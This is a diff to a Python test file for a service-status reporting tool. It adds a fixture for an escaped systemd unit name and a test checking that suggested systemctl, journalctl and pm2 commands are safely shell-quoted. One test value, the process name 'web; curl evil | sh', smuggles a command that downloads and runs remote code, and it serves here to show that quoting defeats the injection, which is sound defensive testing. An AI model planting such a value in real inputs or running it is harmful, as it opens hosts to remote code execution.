@@ -6,6 +6,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 from datetime import datetime, timezone
 from typing import Any
 
@@ -52,6 +53,7 @@ LOOP = {
     "SubState": "auto-restart",
 }
 FAILED = {**LOOP, "Id": "bad.service", "ActiveState": "failed", "SubState": "failed", "ExecMainStatus": "3"}
+ESCAPED = {**FAILED, "Id": "mnt-a\\x2db.mount"}
 STOPPED = {**CRON, "ActiveState": "inactive", "SubState": "dead", "MainPID": "0", "MemoryCurrent": "[not set]"}
 
 
@@ -164,3 +166,13 @@ def test_what_is_refused(options: dict[str, Any], problem: str) -> None:
     lines: list[str] = []
     ServiceReport.examine({**defaults, **options}, Report(lines, "it"))
     assert lines == [f"it: {problem}"]
+
+
+def test_advice_can_be_copied_into_a_shell_whatever_something_is_called() -> None:
+    (escaped,) = findings(unit_of(ESCAPED, declared=True), (None, None))
+    assert escaped.advice == r"systemctl status 'mnt-a\x2db.mount'; journalctl -u 'mnt-a\x2db.mount' -n 100"
+    name = "web; curl evil | sh"
+    process = _processes.process_of("deploy", {"name": name, "pm2_env": {"status": "errored"}})
+    (errored,) = _processes.findings(process, (None, None))
+    words = ["sudo", "-u", "deploy", "pm2", "logs", name, "--lines", "50", "--nostream"]
+    assert shlex.split(errored.advice) == words
